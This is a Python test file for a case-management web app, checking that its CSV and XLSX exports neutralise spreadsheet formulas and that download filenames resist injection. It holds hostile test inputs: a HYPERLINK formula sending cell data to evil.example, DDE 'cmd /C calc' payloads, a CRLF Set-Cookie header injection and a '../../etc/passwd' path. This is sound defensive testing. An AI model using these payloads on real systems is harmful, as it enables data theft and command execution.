"""Files leaving the app (services/files.py): no cell of any CSV or XLSX the app writes runs
as a formula, numbers stay numbers, and a download's name can neither be rewritten by a
quote nor broken by Arabic. Checked through the routes people download from."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import date
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
import sqlalchemy as sa
from werkzeug.http import parse_options_header

from bladi_cases.extensions import db
from bladi_cases.models import Indicator, Role
from bladi_cases.services import files
from bladi_cases.services.files import ascii_filename, content_disposition, neutralise, restore
from bladi_cases.services.reports.indicators import Period
from bladi_cases.services.surveys import surveys as survey_service
from bladi_cases.services.surveys.xlsform import export_xlsform, parse_xlsform

from .conftest import get_file, login

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "'=already quoted"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
YEAR = Period.containing(date.today()).fiscal_year


# --- The rule -----------------------------------------------------------------------------

def test_text_that_starts_like_a_formula_gets_an_apostrophe():
    for text in HOSTILE:
        assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise("ok") == "ok" and neutralise("'ok") == "'ok" and neutralise("") == ""
    assert neutralise(None) is None and neutralise(date(2026, 1, 2)) == date(2026, 1, 2)


def test_numbers_stay_numbers_a_negative_number_is_data():
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5 and neutralise(True) is True
    assert neutralise("-3") == "'-3", "text that looks like a number is still text"


def _cells(xlsx: bytes):
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(xlsx: bytes) -> list:
    """Every cell of every sheet: none is a formula, no text starts like one."""
    cells = _cells(xlsx)
    assert cells
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)
    return [cell.value for cell in cells]


def _assert_csv_safe(body: bytes) -> list[str]:
    values = [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]
    for value in values:
        assert not value.startswith(FORMULA_START) or re.fullmatch(r"-?\d+(\.\d+)?", value), value
    return values


def test_the_writer_types_every_text_as_text_even_one_openpyxl_would_read_as_formula():
    body = files.xlsx_bytes([files.Sheet("=evil", [HOSTILE, [-3, 2.5, None, "a\x01b"]])])
    values = _assert_no_formula(body)
    assert -3 in values and 2.5 in values and "'" + HYPERLINK in values and "ab" in values
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    assert sheet["A2"].data_type == "n" and sheet["A1"].data_type == "s"
    assert _assert_csv_safe(files.csv_bytes([HOSTILE, [-3]]))[-1] == "-3"


def test_every_spreadsheet_is_written_by_the_one_writer():
    """No module but services/files.py builds a workbook, a CSV or a Content-Disposition."""
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|Content-Disposition")
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "bladi_cases").rglob("*.py")
                 if p.name != "files.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


# --- Survey responses and definitions -----------------------------------------------------

def _definition(form_id: str) -> dict:
    def question(name, qtype, label, **extra):
        return {"name": name, "type": qtype, "label": {"en": label, "fr": label, "ar": label},
                "hint": {}, "required": False, "relevant": None, "constraint": None,
                "constraint_message": {}, "choices": [], "group": None, **extra}
    return {
        "title": {"en": HYPERLINK}, "form_id": form_id, "version": None, "groups": [],
        "questions": [
            question("comment", "text", HYPERLINK, hint={"en": "@hint"},
                     constraint_message={"en": "-not a formula"}),
            question("pick", "select_one", "+choose", choices=[
                {"name": "a", "label": {"en": "=1+1"}}, {"name": "b", "label": {"en": "@b"}}]),
            question("count", "integer", "-count"),
        ],
        "scales": [],
    }


@pytest.fixture
def hostile_survey(make_user):
    """A program-wide survey whose labels and answers start like formulas."""
    def make(form_id: str = "hostile"):
        version = survey_service.import_version(None, export_xlsform(_definition(form_id)),
                                                None, publish=True)
        worker = make_user(Role.FIELD_WORKER, "BA")
        for text in HOSTILE:
            survey_service.submit(worker, version, None, None,
                                  {"comment": text, "pick": "a", "count": "-4"}, uuid.uuid4())
        db.session.commit()
        return version, worker
    return make


def test_the_xlsform_export_round_trips_and_runs_nothing(hostile_survey):
    version, _worker = hostile_survey()
    body = export_xlsform(version.definition)
    values = _assert_no_formula(body)
    assert "'" + HYPERLINK in values and "'@hint" in values and "'=1+1" in values
    back = parse_xlsform(body)
    assert back["questions"][0]["label"]["en"] == HYPERLINK
    assert [c["label"]["en"] for c in back["questions"][1]["choices"]] == ["=1+1", "@b"]
    assert back["title"] == {"en": HYPERLINK} and back["questions"][2]["label"]["en"] == "-count"


def test_survey_exports_through_the_routes_run_nothing(client, hostile_survey, make_user):
    version, worker = hostile_survey()
    login(client, worker)
    survey = version.survey
    xlsx = get_file(client, f"/surveys/{survey.uuid}/responses.xlsx?lang=en")
    assert xlsx.status_code == 200
    values = _assert_no_formula(xlsx.data)
    assert "'" + HYPERLINK in values and "'+choose" in values and "'=1+1" in values
    assert -4 in values, "an integer answer stays a number"
    text = get_file(client, f"/surveys/{survey.uuid}/responses.csv?lang=en")
    assert text.status_code == 200
    shown = _assert_csv_safe(text.data)
    assert "'" + HYPERLINK in shown and "'-2+3" in shown and "'@SUM(A1:A9)" in shown
    assert "-4" in shown
    login(client, make_user(Role.REVIEWER))
    definition = client.get(f"/surveys/versions/{version.uuid}/xlsform")
    assert definition.status_code == 200
    _assert_no_formula(definition.data)


# --- The donor's files and the import templates ------------------------------------------

def test_tracking_table_and_templates_run_nothing(client, make_user, make_site):
    indicator = db.session.scalars(sa.select(Indicator).where(
        Indicator.code == "staff_trained")).one()
    indicator.name = {"en": HYPERLINK, "fr": "@fr", "ar": "+ar"}
    indicator.definition = {"en": "\t=cmd", "fr": "-x", "ar": "\r=y"}
    make_site("BA", name="=cmd|' /C calc'!A0")
    db.session.commit()
    login(client, make_user(Role.DONOR, preferred_language="en"))
    values = _assert_no_formula(get_file(client, f"/reports/exports/tracking-{YEAR}.xlsx").data)
    assert "'" + HYPERLINK in values and "'\t=cmd" in values
    shown = _assert_csv_safe(get_file(client, f"/reports/exports/tracking-{YEAR}.csv").data)
    assert "'" + HYPERLINK in shown
    _assert_csv_safe(b"".join(get_file(client, f"/reports/exports/microdata-{YEAR}.csv").response))
    _assert_csv_safe(get_file(client, "/reports/exports/microdata-dictionary.csv").data)
    login(client, make_user(Role.CSO_MANAGER, "BA", preferred_language="en"))
    template = client.get("/beneficiaries/import/template.xlsx")
    assert "'=cmd|' /C calc'!A0" in " / ".join(str(v) for v in _assert_no_formula(
        template.data))
    _assert_csv_safe(client.get("/beneficiaries/import/template.csv").data)


# --- Download names -----------------------------------------------------------------------

def _filename(response) -> tuple[str, str | None]:
    """(the plain filename, the RFC 5987 one decoded) of an attachment, checking that the
    header holds nothing else."""
    header = response.headers["Content-Disposition"]
    kind, params = parse_options_header(header)
    assert kind == "attachment" and set(params) == {"filename"}, header
    assert re.findall(r";\s*([^=;\s]+)=", header) in (["filename"], ["filename", "filename*"])
    plain = re.search(r'filename=("(?:[^"\\]|\\.)*"|[^;]*)', header).group(1)
    star = re.search(r"filename\*=UTF-8''([^;]+)", header)
    return plain.strip('"'), unquote(star.group(1)) if star else None


def test_a_quote_in_a_form_id_cannot_rename_the_download(client, hostile_survey):
    version, worker = hostile_survey('evil.html"; x="')
    login(client, worker)
    response = get_file(client, f"/surveys/{version.survey.uuid}/responses.csv")
    assert response.status_code == 200
    plain, utf8 = _filename(response)
    assert plain == "evil.html__x__-responses.csv", plain
    assert utf8 == "evil.html_ x=_-responses.csv", utf8


def test_an_arabic_form_id_downloads_with_its_name(client, hostile_survey, make_user):
    version, worker = hostile_survey("استبيان_الرفاه")
    login(client, worker)
    for fmt in ("csv", "xlsx"):
        response = get_file(client, f"/surveys/{version.survey.uuid}/responses.{fmt}")
        assert response.status_code == 200
        plain, utf8 = _filename(response)
        assert utf8 == f"استبيان_الرفاه-responses.{fmt}" and plain == f"responses.{fmt}"
        assert response.headers["Content-Disposition"].isascii()
    login(client, make_user(Role.REVIEWER))
    response = client.get(f"/surveys/versions/{version.uuid}/xlsform")
    assert _filename(response)[1] == "استبيان_الرفاه-v1.xlsx"


@pytest.mark.parametrize("name,plain,utf8", [
    ("bladi-indicators-FY2027.xlsx", "bladi-indicators-FY2027.xlsx", None),
    ('a"b.csv', "a_b.csv", None), ("../../etc/passwd", "etc_passwd", None),
    ("x\r\nSet-Cookie: a=b.csv", "x_Set-Cookie__a_b.csv", "x_Set-Cookie_ a=b.csv"),
    ("عربي.xlsx", "download.xlsx", "عربي.xlsx"), ("Enquête.csv", "Enquete.csv", "Enquête.csv"),
])
def test_content_disposition(name, plain, utf8):
    params = content_disposition(name)
    assert params["filename"] == plain and params.get("filename*") == (
        None if utf8 is None else "UTF-8''" + __import__("urllib.parse").parse.quote(
            utf8, safe="!#$&+-.^_`|~"))
    assert ascii_filename("عربي") == "download"
